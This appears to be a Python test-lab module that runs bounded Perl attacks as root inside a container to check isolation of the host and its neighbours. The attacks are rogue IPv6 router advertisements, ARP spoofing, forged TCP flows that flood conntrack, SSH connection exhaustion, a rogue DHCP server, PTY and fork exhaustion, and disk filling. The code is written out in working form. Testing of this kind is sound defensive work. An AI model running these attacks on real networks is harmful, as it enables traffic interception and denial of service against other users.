"""What root in a container does to its server and its neighbours: bounded attacks, run inside with the person's login."""

from collections.abc import Mapping

from tests.lab.person import Person

# Frames as they go over the wire. perl-base is in every container: no module, no compiler.
_PERL = r"""
use strict; use warnings;
my ($own, $gateway, $victim, $server, $other, $count) = @ARGV;
sub ip { pack "C4", split /\./, $_[0] }
sub mac { open my $f, "<", "/sys/class/net/eth0/address" or die; chomp(my $t = <$f>); pack "H12", $t =~ s/://gr }
sub index_of { open my $f, "<", "/sys/class/net/eth0/ifindex" or die; int <$f> }
sub raw { socket my $s, 17, 3, unpack("n", pack "S", 0x0003) or die "packet: $!"; $s }
sub to { pack "SnlSCCa8", 17, 0x0800, index_of(), 1, 0, 6, $_[0] }
sub frame { send $_[0], $_[1] . mac() . $_[2], 0, to($_[1]) }
sub sum { my $t = unpack "%32n*", $_[0] . (length($_[0]) % 2 ? "\0" : ""); $t = ($t & 65535) + ($t >> 16) while $t >> 16; ~$t & 65535 }
sub tcp {
  my ($from, $to, $sport, $dport, $flags) = @_;
  my $t = pack "nnNNCCnnn", $sport, $dport, 1, 1, 0x50, $flags, 1024, 0, 0;
  substr($t, 16, 2) = pack "n", sum($from . $to . pack("CCn", 0, 6, 20) . $t);
  my $h = pack "CCnnnCCna4a4", 0x45, 0, 40, 0, 0, 64, 6, 0, $from, $to;
  substr($h, 10, 2) = pack "n", sum($h);
  pack("n", 0x0800) . $h . $t;
}
"""

_ATTACKS: Mapping[str, str] = {
    # A default route through this container for everybody who listens (RFC 4861 section 4.2); the kernel adds the sum.
    "n1_router_advertisements": r"""
socket my $s, 10, 3, 58 or die "icmp: $!";
setsockopt $s, 41, 18, pack("i", 255); setsockopt $s, 41, 17, pack("i", index_of());
my $all = pack "SnNH32L", 10, 0, 0, "ff020000000000000000000000000001", index_of();
for (1 .. $count) { send $s, pack("CCnCCnNN", 134, 0, 0, 64, 0, 1800, 0, 0), 0, $all; select undef, undef, undef, 0.01 }
""",
    # "The gateway and the neighbour are here", in answers that nobody asked for.
    "n2_false_addresses": r"""
my $s = raw();
for (1 .. $count) {
  for my $claimed ($gateway, $victim) {
    frame($s, "\xff" x 6, pack("n", 0x0806) . pack("nnCCn", 1, 0x0800, 6, 4, 2) . mac() . ip($claimed) . "\xff" x 6 . ip($claimed));
    frame($s, "\xff" x 6, tcp(ip($claimed), ip($server), 1024 + $_, 22, 2));
  }
  select undef, undef, undef, 0.01;
}
""",
    # Connections that look established and would live for days in conntrack's table.
    "n4_crafted_flows": r"""
my $s = raw(); my $there = `ip neigh show $gateway` =~ /lladdr (\S+)/ ? pack("H12", $1 =~ s/://gr) : "\xff" x 6;
for my $n (1 .. 20 * $count) {
  my ($a, $b) = (ip($own), pack("C4", 10, 0, 3, 200 + $n % 50));
  my $port = 1024 + $n % 60000;
  frame($s, $there, tcp($a, $b, $port, 80, 2)); frame($s, $there, tcp($b, $a, 80, $port, 18)); frame($s, $there, tcp($a, $b, $port, 80, 16));
}
""",
    # Connections to sshd that never sign in, to this server and to the other one.
    "n3_connections": r"""
my @open;
for my $n (1 .. $count) {
  socket my $s, 2, 1 | 2048, 6 or last;
  connect $s, pack("Sna4x8", 2, 22, ip($n % 2 ? $server : $other)); push @open, $s;
}
sleep 15;
""",
    # Answers to every neighbour that asks for an address.
    "n8_rogue_dhcp": r"""
socket my $s, 2, 2, 17 or die; setsockopt $s, 1, 6, pack("i", 1); setsockopt $s, 1, 2, pack("i", 1);
bind $s, pack("Sna4x8", 2, 67, "\0" x 4) or die "dhcp: $!";
my $offer = pack("CCCCNnna4a4a4a4a16x192", 2, 1, 6, 0, 1, 0, 0x8000, "\0" x 4, ip($victim), ip($own), "\0" x 4, "\xff" x 16);
for (1 .. $count) { send $s, $offer . "\x63\x82\x53\x63\x35\x01\x02\xff", 0, pack("Sna4x8", 2, 68, "\xff" x 4); select undef, undef, undef, 0.01 }
""",
    # Terminals and processes, as many as the kernel gives, for some seconds.
    "n6_terminals_and_processes": r"""
my @open; while (@open < 10 * $count) { sysopen my $f, "/dev/ptmx", 2 or last; push @open, $f }
my @children; while (@children < 10 * $count) { my $pid = fork; last unless defined $pid; unless ($pid) { sleep 10; exit } push @children, $pid }
sleep 5; kill 9, @children; 1 while wait > 0;
""",
    # Room and inodes: bounded, because the disk below may be this machine's own.
    "z1_full_disk": r"""
mkdir "/flood"; my $piece = "x" x (1 << 20);
if (open my $f, ">", "/flood/file") { for (1 .. $count) { print $f $piece or last } }
for (1 .. 50 * $count) { open my $f, ">", "/flood/$_" or last }
system "rm", "-rf", "/flood";
""",
    # Folders so deep that whatever walks them is slow.
    "z2_nested_folders": r"""
mkdir "/deep"; chdir "/deep"; for (1 .. 20 * $count) { mkdir "d" or last; chdir "d" or last }
chdir "/"; system "rm", "-rf", "/deep";
""",
}
NAMES = tuple(_ATTACKS)


def attack(person: Person, server: str, name: str, addresses: Mapping[str, str], *, count: int = 250) -> str:
    """Run one attack as root of the person's container; returns what it printed. Ends within two minutes.

    `addresses`: of the container (`own`), its `gateway`, a neighbour (`victim`), its `server` and the `other` one.
    """
    values = [addresses[key] for key in ("own", "gateway", "victim", "server", "other")]
    command = f"sudo -n timeout -k 1 90 perl - {' '.join(values)} {count}"
    done = person.ssh(server, command, stdin=_PERL + _ATTACKS[name], check=False, timeout=120)
    return done.stdout + done.stderr
